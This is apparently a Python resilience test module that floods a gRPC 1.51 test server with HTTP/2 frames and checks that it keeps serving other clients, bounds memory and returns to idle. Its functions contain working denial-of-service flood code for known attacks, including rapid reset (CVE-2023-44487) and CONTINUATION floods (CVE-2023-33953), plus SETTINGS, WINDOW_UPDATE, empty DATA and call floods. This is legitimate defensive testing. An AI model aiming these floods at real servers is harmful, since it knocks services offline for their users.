"""Floods of HTTP/2 frames that have ended other servers: while one client floods, another
is served; when it goes away, the server is idle, and its memory as it was."""

import contextlib
import socket
import struct
import threading
import time

import http2
from grpc_limits import LIST, STREAM, Row, World, growth, settles, still_serves
from http2 import Connection, frame

FLOOD_SECONDS = 3
MOST_MIB = 128
HEADER_MIB = 64
MOST_UNACKNOWLEDGED = 2_000
RESETS, MOST_RESET_KIB = 20_000, 24


def flood(world: World, make, clients: int = 2, reads: bool = True) -> str:
    """`make(connection)` answers bytes that are sent again and again."""
    server = world.server
    sent = [0] * clients
    until = time.monotonic() + FLOOD_SECONDS

    def attack(number: int) -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError), Connection(server.address) as client:
                client.read(5)
                client.socket.settimeout(0.5)
                while time.monotonic() < until:
                    data, count = make(client)
                    client.socket.settimeout(0.5)
                    client.socket.sendall(data)
                    sent[number] += count
                    if reads:
                        _drain(client.socket)

    with growth(server, MOST_MIB) as grown:
        threads = [threading.Thread(target=attack, args=(n,)) for n in range(clients)]
        for thread in threads:
            thread.start()
        time.sleep(FLOOD_SECONDS / 2)
        took = still_serves(server, 20)
        for thread in threads:
            thread.join()
    settles(server)
    still_serves(server)
    return (f"{sum(sent):,} frames taken; others served in {took:.2f} s meanwhile; memory "
            f"grew by {grown['mib']:.0f} MiB; idle afterwards")


def _drain(client: socket.socket) -> None:
    client.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while client.recv(1 << 16):
            pass


def rapid_reset(world: World) -> str:
    """gRPC 1.51 does not count streams that were reset (CVE-2023-44487), and makes a call of
    each: only a proxy before it bounds that. What holds: the server lives, and is idle and
    serves others once the flood is over."""
    server, sent = world.server, 0
    with growth(server, RESETS * MOST_RESET_KIB / 1024) as grown:
        with contextlib.suppress(OSError), Connection(server.address) as client:
            client.read(5)
            block = client.request_headers(LIST)
            while sent < RESETS:
                out = b""
                for _ in range(100):
                    stream = client.new_stream()
                    out += frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                    out += frame(http2.RST_STREAM, 0, stream,
                                 struct.pack(">I", http2.CANCEL))
                client.send(out, 15)
                sent += 100
                _drain(client.socket)
        took = still_serves(server, 20)
    settles(server)
    still_serves(server)
    return (f"known limit of gRPC 1.51: {sent:,} streams, memory grew by {grown['mib']:.0f} "
            f"MiB; others served in {took:.2f} s; idle afterwards")


def continuation(world: World) -> str:
    """gRPC 1.51 keeps what it reads of a header without an end (CVE-2023-33953): only a
    proxy before it bounds that. What holds: others are served, and the server lives."""
    server = world.server
    block = http2.header_block([("x-%d" % n, "v" * 100) for n in range(100)])
    with growth(server, 4 * HEADER_MIB) as grown, Connection(server.address) as client:
        client.read(5)
        stream = client.new_stream()
        client.send(frame(http2.HEADERS, 0, stream, client.request_headers(LIST)))
        frames = frame(http2.CONTINUATION, 0, stream, block) * 20
        with contextlib.suppress(OSError):
            for _ in range((HEADER_MIB << 20) // len(frames)):
                client.send(frames)
        still_serves(server)
    settles(server)
    still_serves(server)
    return (f"known limit of gRPC 1.51: {HEADER_MIB} MiB sent, memory grew by "
            f"{grown['mib']:.0f} MiB; others are served; idle afterwards")


def unacknowledged(world: World) -> str:
    """The number of streams binds whoever acknowledges SETTINGS; others are not bound."""
    server, opened = world.server, 0
    with growth(server, 64) as grown, Connection(server.address, mute=True) as client:
        with contextlib.suppress(OSError):
            for _ in range(MOST_UNACKNOWLEDGED):
                client.open(STREAM)
                opened += 1
        still_serves(server)
    settles(server)
    return (f"known limit of gRPC 1.51: {opened:,} streams taken, memory grew by "
            f"{grown['mib']:.0f} MiB; others are served; idle afterwards")


def settings(world: World) -> str:
    one = frame(http2.SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65_535))
    return flood(world, lambda _: (one * 500, 500), reads=False)


def empty_data(world: World) -> str:
    open_at: dict[Connection, int] = {}

    def make(client: Connection) -> tuple[bytes, int]:
        if client not in open_at:
            open_at[client] = client.open(STREAM)
        return frame(http2.DATA, 0, open_at[client]) * 500, 500

    return flood(world, make)


def window_updates(world: World) -> str:
    one = frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    return flood(world, lambda _: (one * 500, 500))


def calls(world: World) -> str:
    """Whole calls as fast as they go, more than the server has threads for."""
    def make(client: Connection) -> tuple[bytes, int]:
        block, out = client.request_headers(LIST), b""
        for _ in range(50):
            stream = client.new_stream()
            out += frame(http2.HEADERS, http2.END_HEADERS, stream, block)
            out += frame(http2.DATA, http2.END_STREAM, stream, b"\0\0\0\0\0")
        return out, 100

    return flood(world, make)


ROWS = [
    Row("streams that are reset", "HEADERS and RST_STREAM, on and on", rapid_reset),
    Row("header without an end", "CONTINUATION, on and on", continuation),
    Row("streams, 256", "2,000 by a client that acknowledges no SETTINGS", unacknowledged),
    Row("SETTINGS", "on and on, their answers unread", settings),
    Row("empty DATA", "on and on", empty_data),
    Row("WINDOW_UPDATE", "on and on", window_updates),
    Row("calls", "as many as two connections bear", calls),
]
